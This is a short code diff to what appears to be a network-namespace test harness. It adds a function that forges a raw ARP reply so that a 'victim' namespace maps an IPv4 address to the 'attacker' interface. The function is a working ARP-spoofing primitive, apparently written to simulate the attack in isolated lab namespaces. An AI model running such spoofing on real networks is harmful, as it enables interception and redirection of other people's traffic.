@@ -121,3 +121,13 @@ def _knock(sender: Pod, there: str) -> None:
         knocking.setblocking(False)  # noqa: FBT003 - the standard library's signature
         with contextlib.suppress(OSError):
             knocking.connect((there, CHATTER_PORT))
+
+
+def claim(attacker: Namespace, address: str, victim: Namespace, victim_address: str) -> None:
+    """Tell a victim by ARP (RFC 826) that an IPv4 address is at the attacker's eth0."""
+    here, there = hardware_address(attacker, "eth0"), hardware_address(victim, "eth0")
+    ends = here + ip_address(address).packed + there + ip_address(victim_address).packed
+    reply = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2) + ends
+    with attacker.socket(socket.AF_PACKET, socket.SOCK_RAW) as raw:
+        raw.bind(("eth0", 0))
+        raw.send(there + here + (0x0806).to_bytes(2, "big") + reply)
